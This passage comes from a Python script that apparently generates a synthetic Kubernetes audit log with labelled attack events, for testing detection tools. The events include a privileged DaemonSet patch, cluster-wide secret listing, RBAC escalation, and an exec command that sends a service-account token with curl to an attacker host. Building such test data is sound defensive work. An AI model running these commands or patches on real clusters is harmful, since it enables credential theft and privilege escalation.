    ev(t + 180, carol, "PATCH", "/apis/apps/v1/namespaces/logging/daemonsets/fluent-bit", ua=cua, ips=cip, level="RequestResponse", concept="ds_patch_privileged_proc",
       req={"spec": {"template": {"spec": {"containers": [{"name": "fluent-bit", "securityContext": {"privileged": True}}], "volumes": [{"name": "proc", "hostPath": {"path": "/proc"}}]}}}})
    # secret list across the cluster by a person with -o yaml at Metadata, via `kubectl get secrets -A` pagination
    ev(t + 210, carol, "GET", "/api/v1/secrets?limit=500", ua=cua, ips=cip, concept="secrets_cluster_list_person")
    ev(t + 211, carol, "GET", "/api/v1/secrets?continue=eyJ2IjoibWV0YS5rOHMuaW8vdjEiLCJydiI6NDAwMDAwMCwic3RhcnQiOiJzaG9wL3N0cmlwZS1rZXlcdTAwMDAifQ&limit=500", ua=cua, ips=cip, concept="secrets_cluster_list_person")
    # bad chars: a command with quotes, backslashes, newline and unicode
    ev(t + 240, carol, "GET", exec_uri("shop", cart, ["sh", "-c", "printf '%s\\n' \"$(cat /var/run/secrets/kubernetes.io/serviceaccount/token)\" | curl -d @- http://" + ATK + "/t?x=1&y=\u00e9\n"], "cart", enc="pct"), ua=cua, ips=cip, concept="exec_token_exfil_weird_chars")
    # RBAC ClusterRole via JSON patch adding an escalate verb
    ev(t + 270, carol, "PATCH", "/apis/rbac.authorization.k8s.io/v1/clusterroles/app-reader", ua=cua, ips=cip, level="RequestResponse", concept="rbac_jsonpatch_escalate",
       req=[{"op": "add", "path": "/rules/-", "value": {"apiGroups": ["rbac.authorization.k8s.io"], "resources": ["clusterroles"], "verbs": ["escalate", "bind"]}}])


def main():
    gen_kubelets()
    gen_controlplane()
    gen_operators()
    gen_new_node()
    gen_ci()
    gen_humans()
    gen_edge()
    gen_attacks()
    EVENTS.sort(key=lambda x: (x[0], x[1]["auditID"]))
    with open(os.path.join(OUT, "audit.log"), "w") as f:
        for _, e in EVENTS:
            s = json.dumps(e, separators=(",", ":"))
            # Go's encoder escapes HTML characters
            s = s.replace("&", "\\u0026").replace("<", "\\u003c").replace(">", "\\u003e")
            f.write(s + "\n")
    with open(os.path.join(OUT, "truth.json"), "w") as f:
        json.dump(TRUTH, f, indent=1, sort_keys=True)
    print(f"{len(EVENTS)} events, {len(TRUTH)} concepts, {sum(len(v) for v in TRUTH.values())} attack events", file=sys.stderr)


if __name__ == "__main__":
    main()
